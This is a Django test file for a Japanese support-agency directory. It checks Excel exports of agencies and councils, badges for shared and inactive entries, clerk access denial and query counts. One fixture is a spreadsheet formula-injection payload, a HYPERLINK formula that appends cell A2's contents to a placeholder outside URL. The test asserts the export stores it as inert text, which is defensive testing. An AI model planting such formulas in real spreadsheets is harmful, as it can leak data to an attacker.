"""The directory and the support councils download as .xlsx with the filter in force."""

import datetime

from django.urls import reverse

from yorisoi.agencies.tests.factories import AgencyFactory, CouncilFactory
from yorisoi.core.testing.tables import assert_queries_do_not_grow, read_xlsx, xlsx

FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"押して")'


def test_a_shared_name_that_looks_like_a_formula_reaches_others_as_text(
    as_member, caseworker, org, other_org
):
    AgencyFactory(organization=other_org, name=FORMULA, shared=True, category="health_center")
    AgencyFactory(organization=org, name="自機関の登録", category="hello_work")
    client = as_member(caseworker)
    sheet = read_xlsx(xlsx(client, reverse("agencies:agency_list"), category="health_center"))
    (name,) = sheet.column("名称")
    assert name.value == FORMULA
    assert name.data_type == "s"
    assert sheet.values("登録元") == ["よその支援団体"]


def test_the_page_marks_shared_and_inactive_entries(as_member, caseworker, org, other_org):
    AgencyFactory(organization=other_org, name="共有の登録", shared=True)
    AgencyFactory(organization=org, name="休止中", is_active=False)
    page = (
        as_member(caseworker)
        .get(reverse("agencies:agency_list"), {"include_inactive": "on"})
        .content.decode()
    )
    assert (
        '<small class="cell__sub"><span class="badge">よその支援団体が共有</span></small>' in page
    )
    assert '<span class="badge">無効</span>' in page


def test_councils_download_with_their_dates(as_member, caseworker, org):
    council = CouncilFactory(organization=org, established_on=datetime.date(2024, 4, 1))
    council.members.add(AgencyFactory(organization=org, name="構成機関"))
    sheet = read_xlsx(xlsx(as_member(caseworker), reverse("agencies:council_list")))
    assert sheet.values("設置日") == ["令和6年4月1日"]
    assert sheet.values("設置日（西暦）") == [datetime.datetime(2024, 4, 1)]
    assert sheet.values("構成員") == ["構成機関"]


def test_councils_are_not_downloaded_by_a_clerk(as_member, clerk, org):
    CouncilFactory(organization=org)
    assert xlsx(as_member(clerk), reverse("agencies:council_list")).status_code == 403


def test_the_directory_queries_do_not_grow(
    as_member, caseworker, org, other_org, django_assert_max_num_queries
):
    AgencyFactory(organization=org)
    AgencyFactory(organization=other_org, shared=True)
    assert_queries_do_not_grow(
        as_member(caseworker),
        reverse("agencies:agency_list"),
        django_assert_max_num_queries,
        lambda: [AgencyFactory(organization=o, shared=True) for o in (org, other_org) * 15],
    )
